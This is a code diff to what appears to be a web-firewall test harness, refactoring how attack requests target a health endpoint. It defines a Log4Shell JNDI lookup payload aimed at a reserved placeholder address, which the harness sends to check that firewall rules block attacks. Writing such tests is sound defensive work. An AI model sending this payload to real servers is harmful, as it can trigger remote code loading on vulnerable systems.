@@ -18,11 +18,12 @@ from stormproof.core.bench import Bench
 from stormproof.core.judges.firewall.refusals import Tried
 from stormproof.core.observations import PROBE_HEADER
 from stormproof.core.stimuli import Stimulus
+from stormproof.core.workload.model import Health
 from stormproof.stimuli.firewall.web_acl_states import judged, read_records, read_samples
 from stormproof.stimuli.shared.entry_points import answered
 from stormproof.stimuli.shared.log_traces import LONGEST_S
 from stormproof.stimuli.shared.propagation import settled
-from stormproof.stimuli.shared.routes import HEALTH
+from stormproof.stimuli.shared.workload import health
 
 NOWHERE = "192.0.2.1"
 
@@ -35,10 +36,9 @@ class Attack:
     query: str = ""
     headers: Mapping[str, str] = field(default_factory=dict)
 
-    @property
-    def path(self) -> str:
-        """The path with the query."""
-        return f"{HEALTH}?q={quote(self.query, safe='')}" if self.query else HEALTH
+    def path(self, health: Health) -> str:
+        """Return the path of the health with the query."""
+        return f"{health.path}?q={quote(self.query, safe='')}" if self.query else health.path
 
 
 LOG4J = f"${{jndi:ldap://{NOWHERE}/a}}"
@@ -80,7 +80,7 @@ def attack_every_stage(bench: Bench) -> Attacked:
     carrying = f"{mark}/key"
     with Connection(bench.endpoint(key=key)) as connection:
         headers = {**IN_HEADER.headers, PROBE_HEADER: carrying}
-        answered(bench.send(connection.send, "GET", HEALTH, headers, note="an attack that carries a key"))
+        answered(bench.send(connection.send, "GET", health(bench).path, headers, note="an attack that carries a key"))
     records = read_records(bench, carrying, since, 1)
     samples = read_samples(bench, carrying, since)
     return Attacked(seen.attacks, seen.harmless, tuple(map(str, records.values())), tuple(samples), (key,))
@@ -107,7 +107,7 @@ def _tried(bench: Bench, mark: str, stages: Sequence[str]) -> Iterator[Tried]:
         with Connection(bench.endpoint(stage)) as connection:
             for attack in (*ATTACKS, *HARMLESS):
                 headers = {**attack.headers, PROBE_HEADER: f"{mark}/{number}"}
-                seen = bench.send(connection.send, "GET", attack.path, headers, note=attack.what)
+                seen = bench.send(connection.send, "GET", attack.path(health(bench)), headers, note=attack.what)
                 yield Tried(attack.what, stage_arn(bench.context, stage), answered(seen))
                 number += 1
 
